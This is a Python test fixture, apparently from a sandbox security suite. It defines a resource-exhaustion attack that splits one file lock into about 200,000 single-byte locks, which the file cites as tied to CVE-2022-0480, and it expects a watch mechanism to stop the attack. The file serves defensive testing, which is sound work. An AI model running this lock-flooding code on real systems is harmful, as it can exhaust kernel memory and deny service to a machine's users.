"""Take the system's memory by locks on single bytes of a file, which count against no limit: 200,000."""

from tests.attacks.attack import Attack

ATTACK = Attack(
    code="""
import fcntl
import time

MANY = 200_000

def attack(hand, given):
    with open(hand.scratch / "locked", "wb") as file:
        fcntl.lockf(file, fcntl.LOCK_EX, 2 * MANY)
        for byte in range(2 * MANY - 1, 0, -2):  # each gap makes two locks of one
            fcntl.lockf(file, fcntl.LOCK_UN, 1, byte)
        time.sleep(3)
    return MANY
""",
    stopped_by=("watch",),
    refused="ended",
    got=lambda found, given: found == 200_000,
    limits={"cpu": "10s"},
    source="CVE-2022-0480: locks of files outside of every control group",
)
